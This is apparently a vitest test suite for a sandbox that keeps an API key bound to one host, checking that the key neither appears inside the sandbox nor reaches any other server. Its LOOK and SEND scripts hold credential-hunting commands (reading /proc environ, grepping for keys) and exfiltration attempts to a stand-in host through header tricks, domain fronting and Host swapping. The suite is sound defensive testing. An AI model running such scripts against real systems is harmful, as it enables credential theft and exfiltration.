import { readdirSync, readFileSync } from "node:fs";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { actors } from "../../support/actors.js";
import { NetworkWorld, WORLD, whyNoWorld } from "../../support/network-world.js";
import { awaitGuest, awaitJail } from "../../support/process-tree.js";
import { auditLog, runInside } from "../support/network-attack.js";
import { holdCli } from "../support/process-answers.js";

const HOST = "api.example.com";
const OTHER = "other.example.com";
const SECRET = "sk-live-Zq7vX2pL9mK4tR8w";
const FORMS = [SECRET, Buffer.from(SECRET).toString("base64").slice(0, -4), encodeURIComponent(SECRET)];

/** Looks for what is in its environment, files and processes. */
const LOOK = `
env | sort
cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\\0' '\\n'
cat /proc/self/mountinfo
grep -rsIl -e sk-live- /etc /run /tmp /dev/shm /proc/self /var/tmp /root /home 2>/dev/null
grep -rsh PRIVATE /run /tmp /etc/ssl/certs /etc/agentkernel 2>/dev/null
ps axeww 2>/dev/null
true
`;

/** Sends the placeholder in every way, and prints all that comes back. */
const SEND = `
set -u
c() { curl -sS -i -m 8 "$@" 2>&1; echo; }
key=$API_KEY
c -H "x-api-key: $key" https://${HOST}/right
c -H "X-API-KEY: Bearer $key" https://${HOST}/prefix
c -H "authorization: $key" https://${HOST}/other-header
c -H "cookie: k=$key" https://${HOST}/cookie
c -H "x-api-key-2: $key" -H "user-agent: $key" https://${HOST}/other-headers
c "https://${HOST}/$key?q=$key"
c -d "$key" https://${HOST}/body
c -X TRACE -H "x-api-key: $key" https://${HOST}/trace
c -X TRACK -H "x-api-key: $key" https://${HOST}/track
c -H "x-api-key: $key" http://${HOST}/plain
c -H "x-api-key: $key" -x http://127.0.0.1:3128 http://${HOST}/plain-proxied
c -H "x-api-key: $key" -k https://${OTHER}/other-host
c -H "x-api-key: $key" -k --connect-to ${HOST}:443:${OTHER}:443 https://${HOST}/fronted-to
c -H "x-api-key: $key" -k --connect-to ${OTHER}:443:${HOST}:443 https://${OTHER}/fronted-from
c -H "x-api-key: $key" -H "Host: ${OTHER}" https://${HOST}/host
c -H "x-api-key: $key" -k https://${WORLD.public4}/by-address
c -H "x-api-key: $key" --http2-prior-knowledge https://${HOST}/h2
c -H "x-api-key: $key" --compressed https://${HOST}/compressed
c -H "x-api-key: $key" -H "Connection: Upgrade" -H "Upgrade: h2c" https://${HOST}/upgrade
c -H "x-api-key: $key" -H "Connection: x-api-key" -H "X-Forwarded-Host: ${OTHER}" https://${HOST}/hop
c -u "user:$key" https://${HOST}/basic
true
`;

describe.skipIf(whyNoWorld() !== null)("A6 a secret that is bound to a host", () => {
  let world: NetworkWorld;
  let env: Readonly<Record<string, string>>;
  beforeAll(async () => {
    world = await NetworkWorld.start();
    await world.name(HOST, [WORLD.public4]);
    await world.name(OTHER, [WORLD.otherPublic4]);
    for (const [name, address] of [
      [HOST, WORLD.public4],
      [OTHER, WORLD.otherPublic4],
    ] as const) {
      await world.listen(address, 80, { kind: "http" });
      await world.listen(address, 443, { kind: "http", tls: world.tls(name) });
    }
    env = { API_KEY: SECRET, SSL_CERT_FILE: world.authority.certPath };
  });
  afterAll(() => world?.stop());

  const options = ["--secret", `API_KEY:${HOST}:x-api-key`];
  const reveals = (text: string) => FORMS.filter((form) => text.includes(form));

  describe.each(actors)("as $name", (actor) => {
    beforeEach(() => world.takeRecord());

    it("is seen and sent anywhere without a sandbox", async () => {
      const looked = await world.runOutside(actor, ["sh", "-c", "env"], { env });
      expect(reveals(looked.stdout)).toContain(SECRET);
      await world.runOutside(actor, ["sh", "-c", SEND], { env });
      const { requests } = await world.takeRecord();
      const leaked = requests.filter((one) => JSON.stringify(one).includes(SECRET)).map(({ path }) => path);
      expect(leaked).toEqual(expect.arrayContaining(["/plain", "/other-host", "/other-header", "/host"]));
    });

    it("is nowhere inside: not in the environment, a file or a process", async () => {
      const { ran, log } = await runInside(world, actor, [...options, "--network", "on"], ["sh", "-c", LOOK], { env });
      expect(ran.stdout).toMatch(/^API_KEY=agentkernel-secret-[0-9a-f]{40}$/m);
      expect(reveals(ran.stdout + ran.stderr + log)).toEqual([]);
      expect(ran.stdout).not.toMatch(/PRIVATE KEY/);
    });

    it.each([
      ["on", ["--network", "on"]],
      ["allowlist", ["--allow-domain", HOST, "--allow-domain", OTHER]],
    ])("reaches its host in its header, and nobody and nothing else (%s)", async (_mode, network) => {
      const { ran, log } = await runInside(world, actor, [...options, ...network], ["sh", "-c", SEND], { env });
      expect(reveals(ran.stdout + ran.stderr + log)).toEqual([]);
      const { requests } = await world.takeRecord();
      const holders = requests.flatMap((request) =>
        Object.entries({ ...request.headers, ":path": request.path })
          .filter(([, value]) => FORMS.some((form) => value.includes(form)))
          .map(([header]) => [request.serverName, request.address, header, request.path]),
      );
      const right = (path: string) => [HOST, WORLD.public4, "x-api-key", path];
      // Who would rather have HTTP/2 gets HTTP/1.1.
      expect(holders).toEqual(["/right", "/prefix", "/h2", "/compressed", "/hop"].map(right));
      expect(requests.find(({ path }) => path === "/right")?.headers["x-api-key"]).toBe(SECRET);
      // TRACE, another Host and a change of protocols never got there; plain HTTP got there with the placeholder.
      const paths = requests.map(({ path }) => path);
      for (const never of ["/trace", "/track", "/host", "/fronted-from", "/upgrade"])
        expect(paths, never).not.toContain(never);
      expect(requests.find(({ path }) => path === "/plain")?.headers["x-api-key"]).toMatch(/^agentkernel-secret-/);
      // What the server echoes reads as what was sent.
      expect(ran.stdout).toMatch(/"x-api-key":"agentkernel-secret/);
    });

    it("does not go to a server that cannot prove to be its host", async () => {
      const untrusted = { API_KEY: SECRET };
      const script = `curl -sS -i -m 8 -H "x-api-key: $API_KEY" https://${HOST}/unproven`;
      const { ran, log } = await runInside(world, actor, [...options, "--network", "on"], ["sh", "-c", script], {
        env: untrusted,
      });
      expect(ran.stdout).toContain("could not be verified");
      expect(reveals(ran.stdout + ran.stderr + log)).toEqual([]);
      expect((await world.takeRecord()).requests).toEqual([]);
    });

    it("is on no command line of the host's and in no environment but the command line's own", async () => {
      const state = actor.folder("state");
      const words = ["run", ...options, "--network", "on", "--json", "--workspace", "none", "--workdir", "/"];
      const script = `curl -sS -H "x-api-key: $API_KEY" https://${HOST}/held; echo up >&2; read end`;
      const child = world.startCli(actor, [...words, "sh", "-c", script], { env: { ...env, XDG_STATE_HOME: state } });
      const run = holdCli(child);
      for (;;) if ((await world.record()).requests.some(({ path }) => path === "/held")) break;
      const jail = awaitJail(run.pid);
      const ours = [jail, awaitGuest(jail)].map((pid) => String(readFileSync(`/proc/${pid}/environ`)));
      const lines = readdirSync("/proc").filter((name) => /^\d+$/.test(name));
      expect(reveals([...ours, ...lines.map(commandLine)].join("\n"))).toEqual([]);
      expect(reveals(String(readFileSync(`/proc/${run.pid}/environ`)))).toContain(SECRET);
      const ended = await run.release();
      expect(JSON.parse(ended.stdout)).toMatchObject({ success: true });
      expect(reveals(ended.stdout + ended.stderr + auditLog(state))).toEqual([]);
    });

    it.each([
      ["in place of the name", ["--secret", `${SECRET}:${HOST}`]],
      ["with its value", ["--secret", `API_KEY=${SECRET}:${HOST}`]],
      ["in place of the host", ["--secret", `API_KEY:${SECRET}`]],
      ["in place of the header", ["--secret", `API_KEY:${HOST}:${SECRET} x`]],
    ])("is not repeated by an error about it (%s)", async (_where, words) => {
      for (const json of [[], ["--json"]]) {
        const ran = await world.runCli(actor, ["run", ...json, ...words, "true"], { env });
        expect(ran.status).toBe(125);
        expect(reveals(ran.stdout + ran.stderr)).toEqual([]);
      }
    });
  });
});

function commandLine(pid: string): string {
  try {
    return readFileSync(`/proc/${pid}/cmdline`, "latin1");
  } catch {
    // It has ended meanwhile.
    return "";
  }
}
